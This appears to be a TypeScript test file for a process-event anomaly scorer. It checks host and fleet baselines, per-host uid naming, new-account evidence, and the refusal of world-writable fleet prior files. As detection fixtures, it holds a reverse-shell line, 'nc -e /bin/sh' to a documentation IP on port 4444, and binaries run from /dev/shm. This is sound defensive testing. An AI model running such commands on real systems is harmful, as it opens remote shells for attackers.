import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import t from 'tap';
import { seededRandom as rng } from '../demo/generate';
import { resolveConfig } from '../conf/config';
import { Scorer } from '../scorer/scorer';
import type { ResultRow } from '../scorer/types';

// Hierarchical baselines (design.md, "Baselines: no blind subjects"): a subject with too
// little history of its own is scored against its host's pooled baseline, or a fleet prior,
// under the same contract, and the model column names the baseline.

const HOUR = 3600;
const START = 1_790_000_000;
const HOST = 'db-02';

const HABITS: Array<[string, string, string]> = [
  ['/usr/bin/git', 'git status', '/bin/bash'],
  ['/usr/bin/vim', 'vim notes.md', '/bin/bash'],
  ['/usr/bin/make', 'make test', '/bin/bash'],
  ['/usr/bin/ls', 'ls -la', '/bin/bash'],
  ['/usr/bin/psql', 'psql -h 10.0.0.5 app', '/bin/bash'],
];

function row(time: number, auid: string, exe: string, cmdline: string, parent: string, host = HOST): ResultRow {
  return {
    query: 'pack_user-behavior_process_events',
    host,
    time,
    action: 'added',
    columns: { pid: String(1000 + (time % 30000)), path: exe, cmdline, auid, uid: auid, euid: auid, parent_path: parent },
    decorations: {},
  };
}

function days(r: () => number, from: number, to: number, perDay: number, auid: string, host = HOST): ResultRow[] {
  const rows: ResultRow[] = [];
  for (let d = from; d < to; d++) {
    for (let i = 0; i < perDay; i++) {
      const [exe, cmd, parent] = HABITS[Math.floor(r() * HABITS.length)];
      rows.push(row(START + d * 24 * HOUR + 9 * HOUR + Math.floor(r() * 8 * HOUR), auid, exe, cmd, parent, host));
    }
  }
  return rows.sort((a, b) => a.time - b.time);
}

const config = (over: Record<string, unknown> = {}) =>
  resolveConfig({ learning: { min_events: 400, min_days: 1 }, models: { rarity: true, ocsvm: true, lstm: false }, ...over }, 'test', {});
const USERS = [
  { uid: '1000', username: 'bob' },
  { uid: '1001', username: 'carol' },
  { uid: '1002', username: 'mallory' },
];

t.test('a subject still learning is scored by its host baseline', async (t) => {
  const r = rng(3);
  const scorer = await Scorer.open({ config: config(), stateDir: null });
  scorer.setUsers(USERS);
  // bob works here daily; carol logs a few rows a day and never reaches the minimum
  await scorer.scoreRows([...days(r, 0, 3, 250, '1000'), ...days(r, 0, 3, 4, '1001')].sort((a, b) => a.time - b.time));
  const t0 = START + 3 * 24 * HOUR + 10 * HOUR;
  const scored = await scorer.scoreRows([
    row(t0, '1001', '/usr/bin/git', 'git status', '/bin/bash'),
    row(t0 + 60, '1002', '/usr/bin/ls', 'ls -la', '/bin/bash'),
    row(t0 + 120, '1001', '/tmp/.x/nc', 'nc -e /bin/sh 203.0.113.9 4444', '/usr/sbin/cron'),
  ]);
  const [routine, stranger, shell] = scored;
  t.equal(routine.subject, 'carol');
  t.match(routine.model, /^host:/, `carol's row is scored by the host baseline (${routine.model})`);
  t.not(routine.score, null, 'and has a score');
  t.not(routine.verdict, 'bad', `a habit of the host is not bad (${routine.score}: ${routine.reasons})`);
  t.match(stranger.model, /^host:/, 'an account never seen on the host is scored too');
  t.ok((stranger.score as number) < (routine.score as number), `its first activity is evidence (${stranger.score} < ${routine.score}: ${stranger.reasons})`);
  t.equal(shell.verdict, 'bad', `a shell from a temp dir under cron is bad for a learning subject (${shell.score}: ${shell.reasons})`);
  const models = scorer.summaries().map((s) => s.subject);
  t.ok(
    models.includes(`*@${HOST}`) && models.includes(`carol@${HOST}`),
    `subjects are host-qualified and the baseline is listed (${[...new Set(models)].join(', ')})`,
  );
});

t.test('one model per user per host, unless the config pools them', async (t) => {
  const r = rng(4);
  const rows = [...days(r, 0, 1, 20, '1000', 'a-1'), ...days(r, 0, 1, 20, '1000', 'b-1')];
  const perHost = await Scorer.open({ config: config(), stateDir: null });
  perHost.setUsers(USERS);
  await perHost.scoreRows(rows);
  const names = new Set(perHost.summaries().map((s) => s.subject));
  t.ok(names.has('bob@a-1') && names.has('bob@b-1'), `bob has a model per host (${[...names].join(', ')})`);
  const pooled = await Scorer.open({ config: config({ baselines: { per_host_users: false } }), stateDir: null });
  pooled.setUsers(USERS);
  await pooled.scoreRows(rows);
  const pooledNames = new Set(pooled.summaries().map((s) => s.subject));
  t.ok(pooledNames.has('bob') && !pooledNames.has('bob@a-1'), `per_host_users false pools bob (${[...pooledNames].join(', ')})`);
});

t.test('a fleet prior scores subjects on a host with no history', async (t) => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'anomaly-fleet-'));
  t.teardown(() => fs.rmSync(dir, { recursive: true, force: true }));
  const r = rng(5);
  const trainer = await Scorer.open({ config: config(), stateDir: null });
  trainer.setUsers(USERS);
  await trainer.learnFleet([...days(r, 0, 2, 150, '1000', 'a-1'), ...days(r, 0, 2, 150, '1001', 'b-1')].sort((a, b) => a.time - b.time));
  const file = path.join(dir, 'fleet.json');
  const written = await trainer.writeFleet(file);
  t.ok(written.calibrated && fs.existsSync(file), 'the fleet prior is written as one file');

  const fresh = await Scorer.open({ config: config({ baselines: { fleet_prior: file } }), stateDir: null });
  fresh.setUsers(USERS);
  const t0 = START + 5 * 24 * HOUR + 10 * HOUR;
  const [habit, shell] = await fresh.scoreRows([
    row(t0, '1000', '/usr/bin/git', 'git status', '/bin/bash', 'c-1'),
    row(t0 + 5, '1000', '/dev/shm/x', '/dev/shm/x -c id', '/usr/sbin/sshd', 'c-1'),
  ]);
  t.match(habit.model, /^fleet:/, `a new host's first rows are scored by the fleet prior (${habit.model})`);
  t.not(habit.verdict, 'bad', `a fleet-wide habit is not bad (${habit.score}: ${habit.reasons})`);
  t.equal(shell.verdict, 'bad', `an odd binary is (${shell.score}: ${shell.reasons})`);
  // a new account is evidence once for the fleet prior too (newacct): the host's baseline is
  // still learning here, so the prior alone scores mallory's rows
  const [hello, ...routine] = await fresh.scoreRows(
    Array.from({ length: 8 }, (_, i) => row(t0 + 600 + i * 120, '1002', HABITS[i % HABITS.length][0], HABITS[i % HABITS.length][1], '/bin/bash', 'c-1')),
  );
  t.equal(hello.verdict, 'bad', `a new account's first row is bad by the prior (${hello.score}: ${hello.reasons})`);
  t.same(
    routine.filter((x) => x.verdict === 'bad').map((x) => `${x.model} ${x.score}: ${x.reasons}`),
    [],
    'its routine rows after are judged by what they do',
  );

  // a prior others may write: they could teach every new subject that their tools are normal
  fs.chmodSync(file, 0o666);
  const loose: string[] = [];
  const unsafe = await Scorer.open({ config: config({ baselines: { fleet_prior: file } }), stateDir: null, log: (_l, m) => loose.push(m) });
  unsafe.setUsers(USERS);
  const [notFleet] = await unsafe.scoreRows([row(t0, '1000', '/usr/bin/git', 'git status', '/bin/bash', 'c-1')]);
  t.equal(notFleet.verdict, 'learning', 'a fleet prior writable by everyone is not loaded');
  t.match(loose.join('\n'), /fleet\.json is writable by everyone \(mode 666\)/, 'and the log says why');
  fs.chmodSync(file, 0o644);

  const broken = path.join(dir, 'broken.json');
  fs.writeFileSync(broken, '{');
  const logs: string[] = [];
  const without = await Scorer.open({ config: config({ baselines: { fleet_prior: broken } }), stateDir: null, log: (_l, m) => logs.push(m) });
  const [row0] = await without.scoreRows([row(t0, '1000', '/usr/bin/git', 'git status', '/bin/bash', 'c-1')]);
  t.equal(row0.verdict, 'learning', 'an unreadable fleet prior is skipped');
  t.ok(
    logs.some((m) => m.includes('fleet prior')),
    'and the log says so',
  );
  // the prior is the administrator's file, often on every host from configuration management
  // or a read-only mount: a bad one is left where it is, never moved into a quarantine beside it
  t.equal(fs.readFileSync(broken, 'utf8'), '{', 'the unreadable prior is left in place');
  t.notOk(fs.existsSync(path.join(dir, 'quarantine')), 'no quarantine directory is made beside it');

  // mounted as Kubernetes mounts a ConfigMap: the configured path is a link to the real file
  fs.mkdirSync(path.join(dir, '..data'));
  fs.renameSync(file, path.join(dir, '..data', 'fleet.json'));
  const linked = path.join(dir, 'fleet-link.json');
  fs.symlinkSync('..data/fleet.json', linked);
  const viaLink: string[] = [];
  const mounted = await Scorer.open({ config: config({ baselines: { fleet_prior: linked } }), stateDir: null, log: (_l, m) => viaLink.push(m) });
  mounted.setUsers(USERS);
  const [again] = await mounted.scoreRows([row(t0, '1000', '/usr/bin/git', 'git status', '/bin/bash', 'c-1')]);
  t.match(again.model, /^fleet:/, `a prior reached through a link is loaded (${viaLink.join('; ').slice(0, 300)})`);
  t.ok(fs.existsSync(path.join(dir, '..data', 'fleet.json')) && fs.lstatSync(linked).isSymbolicLink(), 'and neither it nor its link is moved');
});

t.test('offline, uids are named from users snapshots and rows that carry both', async (t) => {
  const scorer = await Scorer.open({ config: config(), stateDir: null });
  const uidOnly = row(START, '1001', '/usr/bin/ls', 'ls', '/bin/bash');
  const stranger = row(START + 1, '1007', '/usr/bin/ls', 'ls', '/bin/bash');
  const snapshot: ResultRow = {
    query: 'pack_users_users',
    host: HOST,
    time: START + 3600,
    action: 'snapshot',
    columns: { uid: '1001', username: 'carol', directory: '/home/carol' },
    decorations: {},
  };
  scorer.learnUsers([uidOnly, stranger, snapshot]);
  const [a, b] = await scorer.scoreRows([uidOnly, stranger]);
  t.equal(a.subject, 'carol', 'a uid-only row logged before the users snapshot belongs to carol');
  t.equal(b.subject, 'uid:1007', 'a uid nothing names stays a bare uid');
  t.same([...scorer.bareUidRows], [['uid:1007', 1]], 'and is counted for the train output');
});

t.test("offline, a uid is named by its own host's rows: the same uid is another user on another host (review5)", async (t) => {
  // `anomaly train` and `score` read a fleet's log (issue 7: subjects per host), and one uid →
  // name map served every host: uid 1001 is carol on one machine and dave on another, and the
  // name learnt last named both, so carol's process rows went to dave@web-01 (or dave's to
  // carol@db-01), beside her shell history's carol@web-01
  const scorer = await Scorer.open({ config: config(), stateDir: null });
  const users = (host: string, uid: string, username: string): ResultRow => ({
    query: 'pack_users_users',
    host,
    time: START,
    action: 'snapshot',
    columns: { uid, username, directory: `/home/${username}` },
    decorations: {},
  });
  scorer.learnUsers([users(HOST, '1001', 'carol'), users('db-01', '1001', 'dave')]);
  const here = row(START + 1, '1001', '/usr/bin/ls', 'ls', '/bin/bash');
  const there = { ...row(START + 2, '1001', '/usr/bin/ls', 'ls', '/bin/bash'), host: 'db-01' };
  const [a, b] = await scorer.scoreRows([here, there]);
  t.equal(a.subject, 'carol', `uid 1001 on ${HOST} is carol`);
  t.equal(b.subject, 'dave', 'uid 1001 on db-01 is dave');
  // kept in the state directory, and read back; a file of the build before (no host) still names the uid everywhere
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'anomaly-uids-'));
  t.teardown(() => fs.rmSync(dir, { recursive: true, force: true }));
  const saved = await Scorer.open({ config: config({ state_dir: dir }), stateDir: dir });
  saved.learnUsers([users(HOST, '1001', 'carol'), users('db-01', '1001', 'dave')]);
  await saved.scoreRows([here]);
  saved.save();
  const again = await Scorer.open({ config: config({ state_dir: dir }), stateDir: dir });
  const [c, d] = await again.scoreRows([
    { ...here, time: START + 3 },
    { ...there, time: START + 4 },
  ]);
  t.same([c.subject, d.subject], ['carol', 'dave'], 'read back per host');
  const file = path.join(dir, 'extractor.json');
  const extractor = JSON.parse(fs.readFileSync(file, 'utf8'));
  extractor.payload.users = [['1001', 'carol']];
  fs.writeFileSync(file, JSON.stringify(extractor), { mode: 0o600 });
  const older = await Scorer.open({ config: config({ state_dir: dir }), stateDir: dir });
  const [e, f] = await older.scoreRows([
    { ...here, time: START + 5 },
    { ...there, time: START + 6 },
  ]);
  t.same([e.subject, f.subject], ['carol', 'carol'], "an earlier build's names, which knew no host, stand in on every host");
});

t.test('a new account is evidence once: its first row, then what it does (newacct)', async (t) => {
  // A new hire's account learns for weeks in its own subject, and meanwhile the host baseline
  // scores it. The pool learns only rows it did not call bad, so it never learnt the account:
  // `who=<account>` stayed never seen and every row of the account was an alert, for weeks
  // (the held-out set's new developer: 163 of 165 rows below 0.3). Seeing an account act is
  // recorded whatever the verdict; its behaviour is not.
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'anomaly-newacct-'));
  t.teardown(() => fs.rmSync(dir, { recursive: true, force: true }));
  const r = rng(6);
  const users = [...USERS, { uid: '1003', username: 'eve' }];
  const scorer = await Scorer.open({ config: config({ state_dir: dir }), stateDir: dir });
  scorer.setUsers(users);
  await scorer.scoreRows([...days(r, 0, 3, 250, '1000'), ...days(r, 0, 3, 4, '1001')].sort((a, b) => a.time - b.time));
  const t0 = START + 3 * 24 * HOUR + 10 * HOUR;
  const routine = (from: number, n: number, auid: string) =>
    Array.from({ length: n }, (_, i) => {
      const [exe, cmd, parent] = HABITS[i % HABITS.length];
      return row(from + i * 120, auid, exe, cmd, parent);
    });
  const first = await scorer.scoreRows(routine(t0, 12, '1002'));
  t.equal(first[0].subject, 'mallory');
  t.equal(first[0].verdict, 'bad', `the account's first row is the evidence of a new account (${first[0].score}: ${first[0].reasons})`);
  t.match(first[0].reasons, /first activity of this account here/);
  const later = first.slice(1).filter((x) => x.verdict === 'bad');
  t.same(
    later.map((x) => `${x.score}: ${x.reasons}`),
    [],
    "its routine rows after are judged by what they do: the host's habits are not bad",
  );

  // an account made by an attacker and used at night: its first row is bad, and its odd rows
  // are bad by what they are, not by whose they are
  const night = START + 3 * 24 * HOUR + 23 * HOUR;
  const [hello, ...odd] = await scorer.scoreRows([
    row(night, '1003', '/usr/bin/ls', 'ls -la', '/bin/bash'),
    row(night + 30, '1003', '/tmp/.x/nc', 'nc -e /bin/sh 203.0.113.9 4444', '/bin/bash'),
    row(night + 60, '1003', '/dev/shm/k', '/dev/shm/k -s', '/bin/bash'),
  ]);
  t.equal(hello.verdict, 'bad', `the attacker's account's first row is bad (${hello.score}: ${hello.reasons})`);
  for (const x of odd) {
    t.equal(x.verdict, 'bad', `and so is a binary from a temporary folder (${x.score}: ${x.reasons})`);
    t.match(x.reasons, /by `eve`, an account new here since \d{4}-\d\d-\d\d \d\d:\d\d UTC/, 'and the reasons say whose row it is');
  }

  // the record of accounts is state: it survives a restart
  scorer.save();
  const again = await Scorer.open({ config: config({ state_dir: dir }), stateDir: dir });
  again.setUsers(users);
  const t1 = START + 4 * 24 * HOUR + 10 * HOUR;
  const afterRestart = await again.scoreRows(routine(t1, 6, '1002'));
  t.same(
    afterRestart.filter((x) => x.verdict === 'bad').map((x) => `${x.score}: ${x.reasons}`),
    [],
    'after a restart the account is still one seen before',
  );

  // a state of the build before, which kept no record of accounts, loads; the accounts it
  // learnt are known, and a new account is evidence once again
  for (const name of fs.readdirSync(dir)) {
    const file = path.join(dir, name);
    if (!name.endsWith('.json') || !fs.statSync(file).isFile()) continue;
    const saved = JSON.parse(fs.readFileSync(file, 'utf8'));
    if (!String(saved.payload?.name).startsWith('*@')) continue;
    for (const m of saved.payload.models) delete m.accounts;
    fs.writeFileSync(file, JSON.stringify(saved), { mode: 0o600 });
  }
  const older = await Scorer.open({ config: config({ state_dir: dir }), stateDir: dir });
  older.setUsers(users);
  const t2 = START + 5 * 24 * HOUR + 10 * HOUR;
  const [carol] = await older.scoreRows([row(t2, '1001', '/usr/bin/git', 'git status', '/bin/bash')]);
  t.not(carol.verdict, 'bad', `an account the older state learnt is known (${carol.score}: ${carol.reasons})`);
  const upgraded = await older.scoreRows(routine(t2 + 600, 6, '1002'));
  t.same(
    upgraded
      .slice(1)
      .filter((x) => x.verdict === 'bad')
      .map((x) => `${x.score}: ${x.reasons}`),
    [],
    'after the upgrade an account the older state never learnt is evidence once, then judged by its rows',
  );
});

t.test('a host named `*` keeps its baseline across a restart, and makes no fleet prior of it (review12)', async (t) => {
  // The baseline of host H is saved as `*@H`, the fleet prior is never saved among the
  // subjects (its own file, baselines.fleet_prior), yet a subject file named `*@*` was read
  // back as the fleet prior: a host whose identifier is `*` (root on it sets its hostname, or
  // --specified_identifier) had its pool, which its root teaches, loaded at the next start of
  // a state that scores a fleet's logs as the prior of every host's learning subjects, each
  // verdict a Bonferroni pair (p × 2) with it; its own subjects had no host baseline any more
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'anomaly-star-host-'));
  t.teardown(() => fs.rmSync(dir, { recursive: true, force: true }));
  const r = rng(7);
  const stateConfig = () => config({ state_dir: dir });
  const first = await Scorer.open({ config: stateConfig(), stateDir: dir });
  first.setUsers(USERS);
  await first.scoreRows(
    [...days(r, 0, 3, 250, '1000', '*'), ...days(r, 0, 3, 250, '1000', HOST), ...days(r, 0, 3, 4, '1001', HOST), ...days(r, 0, 3, 4, '1001', '*')].sort(
      (a, b) => a.time - b.time,
    ),
  );
  first.save();
  const again = await Scorer.open({ config: stateConfig(), stateDir: dir });
  again.setUsers(USERS);
  const t0 = START + 3 * 24 * HOUR + 10 * HOUR;
  const [star, here] = await again.scoreRows([
    row(t0, '1001', '/usr/bin/git', 'git status', '/bin/bash', '*'),
    row(t0 + 5, '1001', '/usr/bin/git', 'git status', '/bin/bash', HOST),
  ]);
  t.match(star.model, /^host:/, `carol on host * is scored by that host's baseline (${star.model}: ${star.reasons})`);
  t.match(here.model, /^host:/, `carol on ${HOST} by ${HOST}'s (${here.model})`);
  t.notMatch(`${star.model} ${here.model}`, /fleet/, 'no fleet prior was configured, and none is used');
});
